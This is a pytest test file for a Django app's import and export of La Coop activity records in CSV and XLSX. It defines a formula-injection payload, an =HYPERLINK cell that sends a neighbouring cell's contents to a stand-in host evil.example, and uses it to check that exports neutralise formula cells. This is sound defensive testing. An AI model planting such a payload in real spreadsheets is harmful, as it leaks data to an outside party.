"""La Coop compatibility: the export in La Coop's column layout (CSV, XLSX) and the import of a La Coop export
(tremplin.activities.coop, coop_import, the import_coop command and the upload page)."""

import csv
import datetime
import io
import re
from types import SimpleNamespace

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.activities.factories import ActivityFactory
from tests.beneficiaries.factories import BeneficiaryFactory
from tests.factories import CommuneFactory, DepartementFactory, OrganisationFactory, SiteFactory, UserFactory
from tremplin.accounts.enums import Role
from tremplin.activities import coop
from tremplin.activities.coop_import import coop_import
from tremplin.activities.enums import (
    AdministrativeTheme,
    Autonomy,
    Equipment,
    Kind,
    PlaceType,
    StructureKind,
    Thematique,
    WorkshopLevel,
)
from tremplin.activities.models import Activity
from tremplin.activities.services import activity_record
from tremplin.beneficiaries.models import Beneficiary

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2;"Cliquer")'
# La Coop's headings, in its order (buildAccompagnementsWorksheet, export by a coordinator, plus the notes of a
# mediator's own export; never its « Bénéficiaire » column, the person's name).
EXPECTED_HEADERS = [
    "Date",
    "Enregistré le",
    "Dernière modification le",
    "Prénom du médiateur",
    "Nom du médiateur",
    "Rôle",
    "ID - Conum",
    "Type",
    "Participants",
    "Canaux d’accompagnement",
    "Nom du lieu",
    "Adresse",
    "Commune",
    "Code postal",
    "Code Insee",
    "Durée (min)",
    "Nom de l’atelier",
    "Matériel numérique utilisé",
    "Thématique(s) d’accompagnement",
    "Tags",
    "Nom de la démarche administrative",
    "Niveau d’autonomie (ou de l’atelier)",
    "Bénéficiaire réorienté",
    "Structure de redirection",
    "Commune du bénéficiaire",
    "Code postal du bénéficiaire",
    "Code Insee du bénéficiaire",
    "Genre du bénéficiaire",
    "Tranche d’âge du bénéficiaire",
    "Statut du bénéficiaire",
    "Notes supplémentaires",
    "ID CRA",
]
COMPARED = (
    "kind",
    "date",
    "duration_minutes",
    "place_type",
    "site_id",
    "commune_id",
    "themes",
    "admin_themes",
    "equipment",
    "procedure",
    "autonomy",
    "referred",
    "structure_kind",
    "title",
    "level",
)


@pytest.fixture
def world():
    departement = DepartementFactory(code="22", name="Côtes-d'Armor")
    lannion = CommuneFactory(code_insee="22113", name="Lannion", departement=departement, postcodes="22300")
    perros = CommuneFactory(code_insee="22168", name="Perros-Guirec", departement=departement, postcodes="22700")
    organisation = OrganisationFactory(la_poste=True)
    site = SiteFactory(name="LANNION PRINCIPAL", address="2 rue de la Poste", postcode="22300", commune=lannion)
    mediator = UserFactory(
        mediator=True, organisation=organisation, first_name="Camille", last_name="Le Goff", sites=[site]
    )
    other = UserFactory(mediator=True, organisation=organisation, first_name="Yann", last_name="Kerbrat", sites=[site])
    person = BeneficiaryFactory(
        organisation=organisation,
        site=site,
        commune=perros,
        first_name=HOSTILE,
        last_name="Zorglub",
        email="zorglub@exemple.fr",
        mobile_phone="0611223344",
        postal_address="12 impasse Secrète",
        birth_year=1950,
        gender="feminin",
        social_status="retraite",
    )
    return SimpleNamespace(
        departement=departement,
        lannion=lannion,
        perros=perros,
        organisation=organisation,
        site=site,
        mediator=mediator,
        other=other,
        person=person,
    )


def record_three(world, *, day=None):
    """An individual accompaniment of a named person, an anonymous one at home, a workshop with a head count."""
    day = day or datetime.date.today() - datetime.timedelta(days=5)
    named = activity_record(
        by=world.mediator,
        beneficiary=world.person,
        date=day,
        duration_minutes=45,
        place_type=PlaceType.ACTIVITY_PLACE,
        site=world.site,
        equipment=[Equipment.COMPUTER, Equipment.PHONE],
        themes=[Thematique.EMAIL, Thematique.AIDE_AUX_DEMARCHES_ADMINISTRATIVES],
        admin_themes=[AdministrativeTheme.LOGEMENT],
        procedure="Demande d'APL",
        autonomy=Autonomy.PARTLY_AUTONOMOUS,
        referred=True,
        structure_kind=StructureKind.SOCIAL_AID,
        notes="=1+1 rappeler la CAF",
    )
    anonymous = activity_record(
        by=world.mediator,
        date=day,
        duration_minutes=30,
        place_type=PlaceType.HOME,
        commune=world.perros,
        equipment=[Equipment.TABLET],
        themes=[Thematique.SANTE],
        autonomy=Autonomy.AUTONOMOUS,
        anonymous_count=1,
        anonymous_breakdown={"genre": {"masculin": 1}, "tranche_age": {"soixante_dix_plus": 1}},
    )
    workshop = activity_record(
        by=world.mediator,
        kind=Kind.COLLECTIVE,
        date=day - datetime.timedelta(days=1),
        duration_minutes=120,
        place_type=PlaceType.REMOTE,
        themes=[Thematique.SECURITE_NUMERIQUE],
        equipment=[Equipment.NONE],
        title="Déjouer les arnaques",
        level=WorkshopLevel.BEGINNER,
        anonymous_count=3,
        anonymous_breakdown={"genre": {"masculin": 1, "feminin": 2}, "statut_social": {"retraite": 2}},
    )
    return named, anonymous, workshop


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def table_of(rows):
    start = next(index for index, row in enumerate(rows) if row[:1] == ["Date"])
    return rows[:start], rows[start], rows[start + 1 :]


def get_csv(client, user, **params) -> bytes:
    client.force_login(user)
    response = client.get(reverse("activities:export_csv"), params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)


def get_xlsx(client, user, **params) -> bytes:
    client.force_login(user)
    response = client.get(reverse("activities:export_xlsx"), params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


# --- export -------------------------------------------------------------------------------------------------------


def test_csv_has_la_coops_headings_in_its_order_and_the_filters_on_top(client, world):
    record_three(world)
    since = (datetime.date.today() - datetime.timedelta(days=30)).isoformat()
    rows = rows_of(get_csv(client, world.mediator, **{"from": since, "type": "individuel", "theme": "xyz"}))
    top, header, body = table_of(rows)
    assert header == EXPECTED_HEADERS == list(coop.HEADERS)
    assert top[0] == ["Informations export"]
    assert ["Nom", "Le Goff"] in top and ["Prénom", "Camille"] in top and ["Total", "2"] in top
    assert ["Filtres"] in top
    start = datetime.date.fromisoformat(since)
    assert ["Période", f"depuis le {start:%d/%m/%Y}"] in top
    assert ["Type d'activité", "Accompagnement individuel"] in top
    assert ["Filtre ignoré", "Thématique inconnue : « xyz »."] in top
    assert top[-2:] == [[], []]  # an empty row after the filters, then the table (as La Coop)
    assert [row[7] for row in body] == ["Accompagnement individuel"] * 2


def test_csv_rows_say_what_la_coop_says(client, world):
    named, anonymous, workshop = record_three(world)
    _, header, body = table_of(rows_of(get_csv(client, world.mediator)))
    rows = [dict(zip(header, row, strict=True)) for row in body]
    assert len(rows) == 5  # 1 + 1 + one row per workshop participant
    by_id = {}
    for row in rows:
        by_id.setdefault(row["ID CRA"], []).append(row)
    [first] = by_id[f"tremplin-{named.pk}"]
    assert first["Date"] == f"{named.date:%d/%m/%Y}"
    assert first["Type"] == "Accompagnement individuel" and first["Participants"] == "1"
    assert first["Canaux d’accompagnement"] == "Lieu d’activité"
    assert (first["Nom du lieu"], first["Adresse"], first["Commune"], first["Code postal"], first["Code Insee"]) == (
        "LANNION PRINCIPAL",
        "2 rue de la Poste",
        "Lannion",
        "22300",
        "22113",
    )
    assert first["Matériel numérique utilisé"] == "Ordinateur\nTéléphone"
    assert first["Thématique(s) d’accompagnement"] == "E-mail\nAide aux démarches administratives\nLogement"
    assert first["Nom de la démarche administrative"] == "Demande d'APL"
    assert first["Niveau d’autonomie (ou de l’atelier)"] == "2/3"
    assert first["Bénéficiaire réorienté"] == "Oui"
    assert first["Structure de redirection"].startswith("Structure d’aide sociale")
    assert (first["Commune du bénéficiaire"], first["Code postal du bénéficiaire"]) == ("Perros-Guirec", "22700")
    assert (first["Genre du bénéficiaire"], first["Statut du bénéficiaire"]) == ("Féminin", "Retraité")
    assert first["Tranche d’âge du bénéficiaire"] == "70 ans et plus"
    assert first["Prénom du médiateur"] == "Camille" and first["Rôle"] == "Médiateur numérique"
    assert first["Notes supplémentaires"] == "'=1+1 rappeler la CAF"  # the mediator's own export; neutralised
    workshop_rows = by_id[f"tremplin-{workshop.pk}"]
    assert [row["Participants"] for row in workshop_rows] == ["1/3", "2/3", "3/3"]
    assert [row["Genre du bénéficiaire"] for row in workshop_rows] == ["Masculin", "Féminin", "Féminin"]
    assert [row["Statut du bénéficiaire"] for row in workshop_rows] == [
        "Retraité",
        "Retraité",
        "Non communiqué ou hétérogène",
    ]
    assert {row["Niveau d’autonomie (ou de l’atelier)"] for row in workshop_rows} == {"1/3"}
    assert {row["Bénéficiaire réorienté"] for row in workshop_rows} == {""}


def test_no_name_or_contact_of_a_person_in_either_file(client, world):
    record_three(world)
    manager = UserFactory(national=True)
    csv_text = get_csv(client, manager).decode("utf-8-sig")
    workbook = load_workbook(io.BytesIO(get_xlsx(client, manager)))
    xlsx_text = "\n".join(
        str(cell.value) for row in workbook["Activités"].iter_rows() for cell in row if cell.value is not None
    )
    for text in (csv_text, xlsx_text):
        for secret in ("HYPERLINK", "Zorglub", "zorglub@exemple.fr", "0611223344", "11 22 33", "impasse Secrète"):
            assert secret not in text
        # A manager's export carries no notes (free text): only the mediator's own export does.
        assert "rappeler la CAF" not in text
        assert "Le Goff" in text  # the mediator is staff: named


def test_cells_a_spreadsheet_would_run_are_neutralised(client, world):
    world.site.name = HOSTILE
    world.site.save()
    record_three(world)
    rows = rows_of(get_csv(client, world.mediator))
    places = {row[10] for row in table_of(rows)[2]}
    assert "'" + HOSTILE in places
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    sheet = load_workbook(io.BytesIO(get_xlsx(client, world.mediator)))["Activités"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in cells)
    assert "'" + HOSTILE in {cell.value for cell in cells}


def test_xlsx_has_the_same_layout_with_real_dates(client, world):
    named, *_ = record_three(world)
    sheet = load_workbook(io.BytesIO(get_xlsx(client, world.mediator)))["Activités"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "Informations export"
    start = next(index for index, row in enumerate(rows) if row[0] == "Date")
    assert [value for value in rows[start] if value is not None] == EXPECTED_HEADERS
    assert isinstance(rows[start + 1][0], datetime.datetime)
    assert {row[0].date() for row in rows[start + 1 :]} >= {named.date}


def test_other_kinds_are_exported_with_our_label(client, world):
    ActivityFactory(kind=Kind.DIAGNOSTIC, mediator=world.mediator, organisation=world.organisation, site=world.site)
    _, _, body = table_of(rows_of(get_csv(client, world.mediator)))
    assert [row[7] for row in body] == ["Diagnostic numérique"]


def test_filters_narrow_the_rows_and_are_named_on_top(client, world):
    from tremplin.reporting.models import Team, TeamMember

    day = datetime.date.today() - datetime.timedelta(days=20)
    record_three(world, day=day)
    later = ActivityFactory(mediator=world.mediator, organisation=world.organisation, site=world.site)
    coordinator = UserFactory(coordinator=True, organisation=world.organisation, departements=[world.departement])
    team = Team.objects.create(name="Équipe Trégor", coordinator=coordinator, organisation=world.organisation)
    # Camille left the team the day after those three records: the later one is not the team's.
    TeamMember.objects.create(
        team=team,
        mediator=world.mediator,
        joined_on=day - datetime.timedelta(days=30),
        left_on=day + datetime.timedelta(days=1),
    )
    manager = UserFactory(national=True)
    top, _, body = table_of(rows_of(get_csv(client, manager, equipe=team.pk, site=world.site.pk)))
    assert ["Lieu", "LANNION PRINCIPAL"] in top and ["Équipe", "Équipe Trégor"] in top
    assert {row[-1] for row in body} == {f"tremplin-{a.pk}" for a in Activity.objects.filter(site=world.site)} - {
        f"tremplin-{later.pk}"
    }
    top, _, body = table_of(rows_of(get_csv(client, manager, mediateur=world.mediator.pk, type="collectif")))
    assert ["Médiateur", "Camille Le Goff"] in top
    assert {row[7] for row in body} == {"Atelier collectif"} and len(body) == 3
    _, _, body = table_of(rows_of(get_csv(client, manager, theme="sante", departement="22")))
    assert len(body) == 1 and body[0][18] == "Santé"


def test_export_is_scoped_by_role(client, world):
    record_three(world)
    ActivityFactory(mediator=world.other, organisation=world.organisation, site=world.site)
    elsewhere = ActivityFactory(mediator=world.other, organisation=world.organisation)  # another département
    coordinator = UserFactory(coordinator=True, organisation=world.organisation, departements=[world.departement])
    counts = {}
    for name, user in (
        ("mine", world.mediator),
        ("other", world.other),
        ("coordinator", coordinator),
        ("national", UserFactory(national=True)),
    ):
        counts[name] = len({row[-1] for row in table_of(rows_of(get_csv(client, user)))[2]})
    # The coordinator sees what took place in their département (the remote workshop counts where its mediator works).
    assert counts == {"mine": 3, "other": 2, "coordinator": 4, "national": 5}
    assert elsewhere.departement_id != world.departement.code
    ids = {row[-1] for row in table_of(rows_of(get_csv(client, coordinator)))[2]}
    assert f"tremplin-{elsewhere.pk}" not in ids


def test_export_is_refused_to_roles_without_activities_and_needs_a_login(client, world):
    response = client.get(reverse("activities:export_csv"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("accounts:login"))
    nobody = UserFactory(role=Role.PARTNER_STAFF, organisation=None)
    client.force_login(nobody)
    for name in ("activities:export_csv", "activities:export_xlsx"):
        response = client.get(reverse(name))
        assert response.status_code == 403
        assert "Votre rôle ne permet pas de consulter les activités." in response.content.decode()


def test_export_queries_do_not_grow_with_the_rows(client, world, django_assert_max_num_queries):
    manager = UserFactory(national=True)
    client.force_login(manager)
    record_three(world)
    for url in (reverse("activities:export_csv"), reverse("activities:export_xlsx")):
        with django_assert_max_num_queries(8):
            b"".join(client.get(url, {"site": world.site.pk, "mediateur": world.mediator.pk}).streaming_content)
    for _ in range(10):
        record_three(world)
    for url in (reverse("activities:export_csv"), reverse("activities:export_xlsx")):
        with django_assert_max_num_queries(8):
            b"".join(client.get(url, {"site": world.site.pk}).streaming_content)
    assert len(table_of(rows_of(get_csv(client, manager)))[2]) == 55


# --- import -------------------------------------------------------------------------------------------------------


def fields_of(activity):
    return {name: getattr(activity, name) for name in COMPARED}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_into_another_mediator_gives_the_same_records(client, world, fmt):
    originals = record_three(world)
    content = get_csv(client, world.mediator) if fmt == "csv" else get_xlsx(client, world.mediator)
    report = coop_import(content=content, filename=f"export.{fmt}", mediator=world.other)
    assert (report.imported, report.updated, report.rejected) == (3, 0, 0), report.rejections
    imported = {a.coop_id: a for a in Activity.objects.filter(mediator=world.other)}
    for original in originals:
        copy = imported[f"tremplin-{original.pk}"]
        assert fields_of(copy) == fields_of(original)
        assert copy.participants.count() == 0  # La Coop's files carry no names: anonymous records
    named, anonymous, workshop = originals
    copy = imported[f"tremplin-{named.pk}"]
    assert copy.anonymous_count == 1
    assert copy.anonymous_breakdown == {
        "genre": {"feminin": 1},
        "tranche_age": {"soixante_dix_plus": 1},
        "statut_social": {"retraite": 1},
    }
    assert copy.notes == "=1+1 rappeler la CAF"  # read back as typed
    assert imported[f"tremplin-{anonymous.pk}"].anonymous_breakdown == anonymous.anonymous_breakdown
    assert imported[f"tremplin-{workshop.pk}"].anonymous_count == 3
    assert imported[f"tremplin-{workshop.pk}"].anonymous_breakdown == workshop.anonymous_breakdown
    assert Beneficiary.objects.count() == 1


def test_reimport_updates_in_place(client, world):
    record_three(world)
    content = get_csv(client, world.mediator)
    coop_import(content=content, mediator=world.other)
    before = set(Activity.objects.filter(mediator=world.other).values_list("pk", flat=True))
    text = content.decode("utf-8-sig").replace("Déjouer les arnaques", "Déjouer les arnaques en ligne")
    report = coop_import(content=text.encode(), mediator=world.other)
    assert (report.imported, report.updated, report.rejected) == (0, 3, 0)
    assert set(Activity.objects.filter(mediator=world.other).values_list("pk", flat=True)) == before
    assert Activity.objects.filter(mediator=world.other, title="Déjouer les arnaques en ligne").count() == 1


def test_own_tremplin_records_are_not_duplicated(client, world):
    record_three(world)
    report = coop_import(content=get_csv(client, world.mediator), mediator=world.mediator)
    assert (report.imported, report.rejected) == (0, 3)
    assert "déjà présente" in report.rejections[0].reason
    assert Activity.objects.count() == 3


def coop_csv(rows, *, headers=None) -> bytes:
    """A small hand-made La Coop export (self-export layout: no mediator columns)."""
    headers = headers or [
        "Date",
        "Type",
        "Participants",
        "Canaux d’accompagnement",
        "Nom du lieu",
        "Code Insee",
        "Durée (min)",
        "Nom de l’atelier",
        "Matériel numérique utilisé",
        "Thématique(s) d’accompagnement",
        "Niveau d’autonomie (ou de l’atelier)",
        "Bénéficiaire réorienté",
        "Structure de redirection",
        "Genre du bénéficiaire",
        "ID CRA",
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerows([["Informations export"], ["Nom", "Le Goff"], ["Prénom", "Camille"], [], headers, *rows])
    return buffer.getvalue().encode("utf-8")


def good_row(coop_id, **changes):
    row = {
        "Date": (datetime.date.today() - datetime.timedelta(days=2)).strftime("%d/%m/%Y"),
        "Type": "Accompagnement individuel",
        "Participants": "1",
        "Canaux d’accompagnement": "Lieu d’activité",
        "Nom du lieu": "Lannion principal",
        "Code Insee": "22113",
        "Durée (min)": "30",
        "Nom de l’atelier": "",
        "Matériel numérique utilisé": "Ordinateur",
        "Thématique(s) d’accompagnement": "E-mail",
        "Niveau d’autonomie (ou de l’atelier)": "3/3",
        "Bénéficiaire réorienté": "Non",
        "Structure de redirection": "",
        "Genre du bénéficiaire": "Masculin",
        "ID CRA": coop_id,
    }
    row.update(changes)
    return list(row.values())


def test_bad_rows_are_reported_with_line_and_reason_and_good_rows_imported(world):
    content = coop_csv(
        [
            good_row("a1"),
            good_row("a2", **{"Thématique(s) d’accompagnement": "E-mail\nAstrologie"}),
            good_row("a3", Date="31/02/2024"),
            good_row("a4", **{"Durée (min)": ""}),
            good_row("a5", **{"Niveau d’autonomie (ou de l’atelier)": "7/3"}),
            good_row("a6", **{"Canaux d’accompagnement": "À domicile", "Code Insee": ""}),
            good_row("", Type="Atelier collectif"),
            good_row("a8", Date=(datetime.date.today() + datetime.timedelta(days=3)).strftime("%d/%m/%Y")),
            good_row("a9", Type="Diagnostic numérique"),
            good_row("a10", **{"Genre du bénéficiaire": "Licorne"}),
        ]
    )
    report = coop_import(content=content, filename="coop.csv")  # the mediator named in the file
    assert report.mediator == world.mediator
    assert (report.imported, report.updated, report.rejected) == (1, 0, 9)
    reasons = {rejection.line: rejection.reason for rejection in report.rejections}
    assert reasons[7] == "thématique inconnu(e) : « Astrologie »."
    assert reasons[8].startswith("date illisible : « 31/02/2024 »")
    assert reasons[9] == "durée manquante."
    assert reasons[10].startswith("niveau d'autonomie illisible")
    assert reasons[11] == "Indiquez la commune où l'accompagnement a eu lieu."
    assert reasons[12] == "ID CRA manquant."
    assert reasons[13].startswith("La date doit être entre")
    assert "propre à Tremplin" in reasons[14]
    assert "Licorne" in reasons[15]
    activity = Activity.objects.get()
    assert (activity.coop_id, activity.site, activity.anonymous_breakdown) == (
        "a1",
        world.site,
        {"genre": {"masculin": 1}},
    )
    assert report.summary() == "importées : 1, mises à jour : 0, refusées : 9"


def test_unknown_place_falls_back_to_another_place_in_the_commune(world):
    report = coop_import(content=coop_csv([good_row("b1", **{"Nom du lieu": "Médiathèque", "Code Insee": "22168"})]))
    activity = Activity.objects.get()
    assert (activity.place_type, activity.site, activity.commune) == (PlaceType.OTHER, None, world.perros)
    assert "« Médiathèque » absent de vos lieux" in report.remarks[0].reason
    assert report.remarks[0].line == 6  # information block, empty row, headings, then the row


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"", "vide.xlsx", "Le fichier est vide."),
        (b"PK\x03\x04 pas un classeur", "faux.xlsx", "Ce fichier n'est pas un classeur Excel (XLSX) lisible."),
        (b"\x00\x01\x02\x03 binaire", "image.csv", "Ce fichier n'est ni un classeur Excel (XLSX) ni un fichier CSV."),
        ("Nom;Prénom\nDupont;Jean\n".encode(), "autre.csv", "Ligne d'en-tête introuvable"),
    ],
)
def test_a_malformed_file_is_refused_in_french_and_writes_nothing(world, tmp_path, content, filename, message):
    with pytest.raises(coop.CoopFileError, match=re.escape(message)):
        coop_import(content=content, filename=filename, mediator=world.mediator)
    path = tmp_path / filename
    path.write_bytes(content)
    with pytest.raises(CommandError, match="Rien n'a été enregistré"):
        call_command("import_coop", str(path), "--mediator", world.mediator.email)
    assert Activity.objects.count() == 0


def la_coop_workbook(path, *, day):
    """A file shaped like La Coop's real export: the information block, the filters block, an empty row, the
    table (a mediator's own export: its « Bénéficiaire » column holds names), dates as date cells."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Activités"
    for row in (
        ["Informations export"],
        ["Nom", "Le Goff"],
        ["Prénom", "Camille"],
        ["Rôle", "Médiateur"],
        ["Total", 4],
        ["Date d'export", "01/12/2026"],
        ["Heure d'export", "10:42"],
        [],
        ["Filtres"],
        ["Période", "-"],
        ["Source", "-"],
        ["Lieux d’accompagnement", "-"],
        ["Communes", "-"],
        ["Départements", "-"],
        ["Type d’accompagnement", "-"],
        ["Rôle", "-"],
        ["Thématiques non administratives", "-"],
        ["Thématiques administratives", "-"],
        ["Tags", "-"],
        [],
        [""],
    ):
        sheet.append(row)
    headers = [h for h in EXPECTED_HEADERS if h not in ("Prénom du médiateur", "Nom du médiateur", "Rôle")]
    headers = [h for h in headers if h != "ID - Conum"]
    headers.insert(headers.index("Participants") + 1, "Bénéficiaire")
    sheet.append(headers)
    common = {
        "Date": datetime.datetime.combine(day, datetime.time()),
        "Enregistré le": "20/11/2026 à 14:03",
        "Dernière modification le": "",
        "Canaux d’accompagnement": "Lieu d’activité",
        "Nom du lieu": "LANNION PRINCIPAL",
        "Adresse": "2 rue de la Poste",
        "Commune": "Lannion",
        "Code postal": "22300",
        "Code Insee": "22113",
        "Tags": "Permanence",
    }
    individual = {
        **common,
        "Type": "Accompagnement individuel",
        "Participants": 1,
        "Bénéficiaire": "Jeanne Martin",
        "Durée (min)": 90,
        "Matériel numérique utilisé": "Ordinateur\nTéléphone",
        "Thématique(s) d’accompagnement": "Aide aux démarches administratives\nArgent - Impôts",
        "Nom de la démarche administrative": "Déclaration de revenus",
        "Niveau d’autonomie (ou de l’atelier)": "1/3",
        "Bénéficiaire réorienté": "Oui",
        "Structure de redirection": "Administration (mairie, préfecture…)",
        "Commune du bénéficiaire": "Lannion",
        "Genre du bénéficiaire": "Féminin",
        "Tranche d’âge du bénéficiaire": "60 - 69 ans",
        "Statut du bénéficiaire": "Retraité",
        "Notes supplémentaires": "Revenir avec l'avis d'imposition",
        "ID CRA": "5c1e2a3b-0000-4000-8000-000000000001",
    }
    sheet.append([individual.get(h, "") for h in headers])
    for index, (genre, age) in enumerate(
        [("Masculin", "18 - 24 ans"), ("Féminin", "Non communiqué"), ("Non communiqué", "18 - 24 ans")]
    ):
        workshop = {
            **common,
            "Type": "Atelier collectif",
            "Participants": f"{index + 1}/3",
            "Bénéficiaire": f"Participant {index}",
            "Durée (min)": 120,
            "Nom de l’atelier": "Premiers pas sur smartphone",
            "Matériel numérique utilisé": "Téléphone",
            "Thématique(s) d’accompagnement": "Prendre en main du matériel",
            "Niveau d’autonomie (ou de l’atelier)": "2/3",
            "Genre du bénéficiaire": genre,
            "Tranche d’âge du bénéficiaire": age,
            "Statut du bénéficiaire": "Non communiqué ou hétérogène",
            "ID CRA": "5c1e2a3b-0000-4000-8000-000000000002",
        }
        sheet.append([workshop.get(h, "") for h in headers])
    workbook.save(path)


def test_a_file_shaped_like_la_coops_export_is_imported(world, tmp_path):
    day = datetime.date.today() - datetime.timedelta(days=10)
    path = tmp_path / "export-activites.xlsx"
    la_coop_workbook(path, day=day)
    out = io.StringIO()
    call_command("import_coop", str(path), stdout=out)  # the mediator named in the file: Camille Le Goff
    assert "importées : 2, mises à jour : 0, refusées : 0" in out.getvalue()
    individual = Activity.objects.get(coop_id="5c1e2a3b-0000-4000-8000-000000000001")
    assert individual.mediator == world.mediator and individual.date == day
    assert (individual.kind, individual.duration_minutes, individual.site) == (Kind.INDIVIDUAL, 90, world.site)
    assert individual.themes == [Thematique.AIDE_AUX_DEMARCHES_ADMINISTRATIVES]
    assert individual.admin_themes == [AdministrativeTheme.ARGENT_IMPOTS]
    assert individual.equipment == [Equipment.COMPUTER, Equipment.PHONE]
    assert (individual.autonomy, individual.referred) == (Autonomy.FULLY_ACCOMPANIED, True)
    assert individual.structure_kind == StructureKind.ADMINISTRATION
    assert individual.procedure == "Déclaration de revenus"
    assert individual.anonymous_breakdown == {
        "genre": {"feminin": 1},
        "tranche_age": {"soixante_soixante_neuf": 1},
        "statut_social": {"retraite": 1},
    }
    workshop = Activity.objects.get(coop_id="5c1e2a3b-0000-4000-8000-000000000002")
    assert (workshop.kind, workshop.title, workshop.level) == (
        Kind.COLLECTIVE,
        "Premiers pas sur smartphone",
        WorkshopLevel.INTERMEDIATE,
    )
    assert workshop.anonymous_count == 3
    assert workshop.anonymous_breakdown == {
        "genre": {"feminin": 1, "masculin": 1},
        "tranche_age": {"dix_huit_vingt_quatre": 2},
    }
    # The names of La Coop's « Bénéficiaire » column are never kept.
    assert Beneficiary.objects.count() == 1
    assert not Activity.objects.filter(notes__icontains="Jeanne").exists()
    # Run again: updated in place.
    out = io.StringIO()
    call_command("import_coop", str(path), stdout=out)
    assert "importées : 0, mises à jour : 2, refusées : 0" in out.getvalue()
    assert Activity.objects.count() == 2


def test_command_dry_run_writes_nothing_and_several_mediators_need_one_named(client, world, tmp_path):
    record_three(world)
    path = tmp_path / "tremplin.csv"
    manager = UserFactory(national=True)
    path.write_bytes(get_csv(client, manager))
    out = io.StringIO()
    call_command("import_coop", str(path), "--mediator", world.other.email, "--dry-run", stdout=out)
    assert "Simulation (rien n'est enregistré) — importées : 3, mises à jour : 0, refusées : 0" in out.getvalue()
    assert Activity.objects.filter(mediator=world.other).count() == 0
    ActivityFactory(mediator=world.other, organisation=world.organisation, site=world.site)
    path.write_bytes(get_csv(client, manager))
    with pytest.raises(CommandError, match="plusieurs médiateurs"):
        call_command("import_coop", str(path))
    with pytest.raises(CommandError, match="Aucun compte"):
        call_command("import_coop", str(path), "--mediator", "personne@nulle.part")


def test_import_queries_are_bounded_per_record(world, django_assert_max_num_queries):
    content = coop_csv([good_row(f"q{i}") for i in range(10)])
    with django_assert_max_num_queries(6 + 26 * 10):
        report = coop_import(content=content, mediator=world.mediator)
    assert report.imported == 10
    with django_assert_max_num_queries(6 + 26 * 10):
        report = coop_import(content=content, mediator=world.mediator)
    assert report.updated == 10


def test_nothing_is_half_written_when_the_file_fails_midway(world, monkeypatch):
    from tremplin.activities import coop_import as module

    calls = []
    original = module.activity_record

    def failing(**kwargs):
        calls.append(kwargs["coop_id"])
        if len(calls) == 2:
            raise RuntimeError("panne")
        return original(**kwargs)

    monkeypatch.setattr(module, "activity_record", failing)
    with pytest.raises(RuntimeError):
        coop_import(content=coop_csv([good_row("c1"), good_row("c2")]), mediator=world.mediator)
    assert Activity.objects.count() == 0


# --- the upload page ----------------------------------------------------------------------------------------------


def test_upload_page_previews_then_imports(client, world, django_assert_max_num_queries):
    client.force_login(world.mediator)
    url = reverse("activities:coop_import")
    with django_assert_max_num_queries(6):
        response = client.get(url)
    assert response.status_code == 200 and "Importer mes activités de La Coop" in response.content.decode()
    content = coop_csv([good_row("d1"), good_row("d2", **{"Durée (min)": "beaucoup"})])
    upload = io.BytesIO(content)
    upload.name = "coop.csv"
    # Each record goes through activity_record and its full_clean (~25 queries): a bound per record.
    with django_assert_max_num_queries(36):
        response = client.post(url, {"file": upload, "dry_run": "on"})
    page = response.content.decode()
    assert "Simulation (rien n&#x27;est enregistré) — importées : 1, mises à jour : 0, refusées : 1" in page
    assert "ligne 7" in page and "durée illisible" in page
    assert Activity.objects.count() == 0
    upload = io.BytesIO(content)
    upload.name = "coop.csv"
    response = client.post(url, {"file": upload})
    assert "importées : 1, mises à jour : 0, refusées : 1" in response.content.decode()
    assert Activity.objects.get().mediator == world.mediator


def test_upload_page_refuses_other_files_in_french(client, world):
    client.force_login(world.mediator)
    url = reverse("activities:coop_import")
    upload = io.BytesIO(b"%PDF-1.4")
    upload.name = "export.pdf"
    response = client.post(url, {"file": upload})
    assert "Le fichier doit être un classeur XLSX ou un fichier CSV." in response.content.decode()
    upload = io.BytesIO(b"PK\x03\x04 abime")
    upload.name = "export.xlsx"
    response = client.post(url, {"file": upload})
    page = response.content.decode()
    assert "Fichier refusé : rien n’a été enregistré" in page and "classeur Excel (XLSX) lisible" in page
    assert Activity.objects.count() == 0


def test_upload_page_refuses_a_file_too_big(client, world, settings):
    settings.TREMPLIN_UPLOAD_MAX_BYTES = 100
    client.force_login(world.mediator)
    upload = io.BytesIO(coop_csv([good_row("e1")]))
    upload.name = "coop.csv"
    response = client.post(reverse("activities:coop_import"), {"file": upload})
    assert "Le fichier dépasse 100 octets." in response.content.decode()
    assert Activity.objects.count() == 0


def test_export_rows_fetch_people_once_per_chunk(world, django_assert_max_num_queries):
    for _ in range(4):
        record_three(world)
    with django_assert_max_num_queries(1 + 3):  # the activities, then their participants for each chunk of 5
        rows = list(coop.export_rows(Activity.objects.all(), viewer=None, chunk_size=5))
    assert len(rows) == 4 * 5
    assert rows[0][-1].startswith("tremplin-")


def test_upload_page_is_closed_to_roles_that_do_not_record(client, world):
    client.force_login(UserFactory(national=True))
    response = client.get(reverse("activities:coop_import"))
    assert response.status_code == 403
    assert "l&#x27;import de La Coop est fermé" in response.content.decode()
